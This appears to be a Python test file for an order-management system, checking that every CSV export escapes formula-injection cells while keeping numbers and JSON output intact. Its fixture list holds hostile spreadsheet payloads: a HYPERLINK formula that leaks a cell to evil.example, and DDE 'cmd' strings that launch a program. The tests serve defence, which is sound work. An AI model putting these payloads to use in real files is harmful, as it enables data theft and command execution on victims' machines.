"""CSV formula injection: a cell a spreadsheet would run as a formula is written as text, in every CSV.

Supplier names are free text and reach the supplier report; the API's `?format=csv`, the dashboard's
report CSVs and `oms report --csv` all write it through one function, as does the Back Orders export.
Plain numbers (a negative priority) stay numbers. On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from typer.testing import CliRunner

from oms.cli import app as cli

from .test_injection import admin_browser, ok  # noqa: F401 (a fixture)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def day(n: int) -> str:
    return (datetime.now(UTC).date() + timedelta(days=n)).isoformat()


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def suppliers(text: str) -> set[str]:
    return {row["supplier"] for row in rows(text)}


def test_formula_cells_are_escaped_in_every_csv_the_product_writes(api: Any, admin_browser: Any) -> None:  # noqa: F811
    ok(api.put("/products/P-1", {"name": "Tent", "unit_price": "10.00", "backorder_policy": {"mode": "always"}}))
    ok(api.put("/customers/C-1", {"name": "Carol", "email": "carol@example.com"}))
    for i, name in enumerate(FORMULAS):
        po = {"po_number": f"PO-{i}", "supplier": name, "lines": [{"sku": "P-1", "qty": 1, "expected_date": day(-2)}]}
        ok(api.post("/purchase-orders", po))
        ok(api.post("/receipts", {"grn_number": f"G-{i}", "po_number": f"PO-{i}", "lines": [{"sku": "P-1", "qty": 1}]}))
    escaped = {"'" + name for name in FORMULAS}

    r = api.get("/reports/supplier-on-time", params={"format": "csv"})
    assert r.status_code == 200, r.text
    assert suppliers(r.text) == escaped
    r = admin_browser.get("/reports/supplier-on-time.csv")
    assert r.status_code == 200, r.text
    assert suppliers(r.text) == escaped
    url = api.store.engine.url.render_as_string(hide_password=False)
    out = CliRunner().invoke(cli, ["report", "supplier-on-time", "--csv"], env={"OMS_DATABASE_URL": url})
    assert out.exit_code == 0, out.output
    assert suppliers(out.output) == escaped
    # JSON keeps the name exactly as given: escaping belongs to CSV only.
    assert {i["supplier"] for i in api.get("/reports/supplier-on-time").json()["items"]} == set(FORMULAS)

    order = {
        "order_number": "SO-1",
        "channel": "web",
        "customer_id": "C-1",
        "priority": -5,
        "lines": [{"sku": "P-1", "qty": 20}],
    }
    ok(api.post("/orders", order))
    r = admin_browser.get("/backorders.csv")
    assert r.status_code == 200, r.text
    (line,) = rows(r.text)
    assert (line["order_number"], line["sku"], line["priority"]) == ("SO-1", "P-1", "-5")


def test_one_function_escapes_every_formula_start_and_leaves_numbers_alone() -> None:
    from oms.csv_cells import cell

    for name in [*FORMULAS, "=", "-", "+x", "@", "\t", "\r", "-1-1", "--5", "-1e+3x"]:
        assert cell(name) == "'" + name, name
    for value in [-5, "-5", "-12.50", "+3", "1E+30", "plain", "a=b", "", None, 0]:
        assert cell(value) == ("" if value is None else str(value)), value
